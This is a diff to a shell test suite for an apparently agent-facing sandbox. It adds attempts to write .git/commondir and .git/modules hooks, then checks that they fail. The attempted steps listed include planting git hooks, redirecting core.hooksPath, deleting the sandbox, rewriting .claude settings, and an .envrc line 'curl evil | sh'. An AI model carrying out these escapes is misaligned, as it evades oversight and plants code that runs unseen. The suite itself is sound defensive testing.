@@ -75,6 +75,8 @@ try rmsandbox "rm -rf .sandbox"
 try hooks "echo 'touch /tmp/pwned' > .git/hooks/pre-commit"
 try gitconfig "git config core.hooksPath /tmp"
 try gitmove "mv .git .git-moved && mkdir -p .git/hooks && echo x > .git/hooks/pre-commit"
+try commondir "echo '$ESCAPE_OUTSIDE' > .git/commondir"
+try modules "mkdir -p .git/modules/x/hooks && echo x > .git/modules/x/hooks/post-checkout"
 try settings "echo '{}' > .claude/settings.json"
 try settingslocal "echo '{}' > .claude/settings.local.json"
 try envrc "echo 'curl evil | sh' > .envrc"
@@ -136,6 +138,8 @@ ok $? "no git hook was planted"
 [ -d "$FOLDER/.git" ] && [ ! -e "$FOLDER/.git-moved" ]
 ok $? ".git could not be moved away to plant hooks in a fresh one"
 unlike "$(git -C "$FOLDER" config --get core.hooksPath)" "." ".git/config is unchanged (no core.hooksPath)"
+[ ! -e "$FOLDER/.git/commondir" ] && [ ! -e "$FOLDER/.git/modules" ]
+ok $? ".git/commondir and .git/modules (other places git takes hooks from) were not created"
 is "$(sha256sum <"$FOLDER/.claude/settings.json")" "$settings_sum" ".claude/settings.json is unchanged"
 [ ! -e "$FOLDER/.claude/settings.local.json" ]
 ok $? ".claude/settings.local.json was not created"
